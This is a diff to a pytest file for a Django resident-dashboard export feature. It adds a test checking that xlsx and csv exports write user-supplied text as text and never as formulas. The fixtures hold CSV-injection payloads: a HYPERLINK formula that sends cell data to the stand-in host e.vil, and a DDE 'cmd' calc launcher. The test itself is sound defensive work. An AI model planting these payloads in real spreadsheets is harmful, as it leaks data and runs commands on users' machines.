@@ -269,8 +269,9 @@ def test_worker_exports_their_own_figures(client_for, crafted):
 
 # session, user, scopes + the door (2: the area and its ancestors, its children) + the
 # figures (children: the grids' paths, coverage 2, the day tallies, errands overdue,
-# completions, complaints; trend: the day tallies).
-@pytest.mark.parametrize("table, queries", [("children", 12), ("trend", 6), ("coverage", 7), ("missed", 6)])
+# completions, complaints; trend: the day tallies). The missed list names residents: its
+# download is audited (one more query, the audit row).
+@pytest.mark.parametrize("table, queries", [("children", 12), ("trend", 6), ("coverage", 7), ("missed", 7)])
 def test_export_query_counts_do_not_grow(client_for, crafted, grow, table, queries, django_assert_num_queries):
     client, query = client_for("street"), factories.period_query(area=factories.town().pk)
     client.get(reverse("dashboard"))
@@ -292,3 +293,39 @@ def test_report_query_count_does_not_grow(client_for, crafted, grow, django_asse
     grow(10)
     with django_assert_num_queries(8):
         assert client.get(reverse(REPORT), query).status_code == 200
+
+
+# Text from people that a spreadsheet would run (issue 13 §1): a resident's name and
+# address, an area's name. Every table comes back with them as text and nothing as a formula.
+EVIL_NAME = '=HYPERLINK("http://e.vil/?"&B2,"点击")'
+EVIL_ADDRESS = "=cmd|' /C calc'!A0"
+EVIL_AREA = "＋绣湖社区"
+
+
+def no_formulas(book) -> list[str]:
+    """Every text cell of ``book``, after checking that none of its cells is a formula."""
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    return [cell.value for cell in cells if cell.data_type == "s"]
+
+
+def test_every_export_writes_peoples_formulas_as_text(client_for, crafted, demo_users):
+    factories.resident(
+        actor=demo_users["admin"],
+        grid_name="绣湖社区第2网格",
+        name=EVIL_NAME,
+        address=EVIL_ADDRESS,
+        registered_days_ago=40,
+    )
+    Area.objects.filter(name="绣湖社区").update(name=EVIL_AREA)
+    client, query = client_for("street"), factories.period_query(area=factories.town().pk)
+    expected = {"children": [EVIL_AREA], "coverage": [EVIL_AREA], "missed": [EVIL_NAME, EVIL_ADDRESS], "trend": []}
+    for table, texts in expected.items():
+        cells = no_formulas(workbook(export(client, "xlsx", table=table, **query)))
+        assert set(texts) <= set(cells), table
+        fields = [field for row in csv_rows(export(client, "csv", table=table, **query)) for field in row]
+        assert {"'" + text for text in texts} <= set(fields), table
+        assert not set(texts) & set(fields), table  # never bare
+    today = timezone.localdate()
+    report = workbook(client.get(reverse(REPORT), {"area": factories.town().pk, "month": f"{today:%Y-%m}"}))
+    assert EVIL_AREA in no_formulas(report) and EVIL_AREA in report.sheetnames
